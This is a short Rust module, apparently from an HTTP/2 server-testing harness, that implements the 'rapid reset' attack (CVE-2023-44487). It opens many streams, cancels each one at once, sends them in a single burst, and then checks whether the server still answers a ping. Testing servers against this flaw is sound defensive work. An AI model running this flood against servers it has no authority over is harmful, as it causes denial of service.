//! Streams that are reset as soon as they are opened (CVE-2023-44487): they never count as open, and each costs the server
//! a call.

use std::net::SocketAddr;

use super::{Blocks, Heard, Wire};
use crate::peer::h2::{Frame, code, kind};

/// Opens and resets `count` streams, as fast as they can be written. What the server said.
pub async fn run(address: SocketAddr, path: &str, count: u32) -> Heard {
    let mut wire = Wire::http2(address, &[]).await;
    let mut blocks = Blocks::new(path);
    let mut bytes = Vec::new();
    for stream in (1..).step_by(2).take(count as usize) {
        let open = Frame::new(kind::HEADERS, END_HEADERS, stream, blocks.block());
        bytes.extend_from_slice(&open.encode());
        bytes.extend_from_slice(&Frame::reset(stream, code::CANCEL).encode());
    }
    bytes.extend_from_slice(&Frame::ping(false, *b"are you?").encode());
    wire.send(&bytes).await;
    let said = |heard: &Heard| heard.pongs > 0 || heard.go_away.is_some();
    wire.hear("an answer after resets", said).await.clone()
}

const END_HEADERS: u8 = 4;
